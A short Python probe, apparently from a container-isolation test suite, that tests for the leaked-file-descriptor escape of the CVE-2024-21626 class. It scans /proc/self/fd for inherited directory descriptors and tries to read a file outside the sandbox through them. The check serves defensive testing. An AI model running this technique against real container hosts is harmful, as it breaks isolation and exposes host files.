# tried: uses descriptors that whoever started it left open (the class of CVE-2024-21626)
# wall: everything of the monitor's closes on exec; PID 1 passes three pipes on and nothing else
# control: room leak
import stat
for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISDIR(os.fstat(int(name)).st_mode) and int(name) > 2:
            inside = os.readlink(f"/proc/self/fd/{name}")
            descriptor = os.open("outside", os.O_RDONLY, dir_fd=int(name))
            report(True, os.read(descriptor, 100).decode().strip(), inside)
    except OSError:
        pass
kinds = [os.readlink(f"/proc/self/fd/{name}").split(":")[0] for name in ("0", "1", "2")]
report(False, f"nothing but {kinds}")
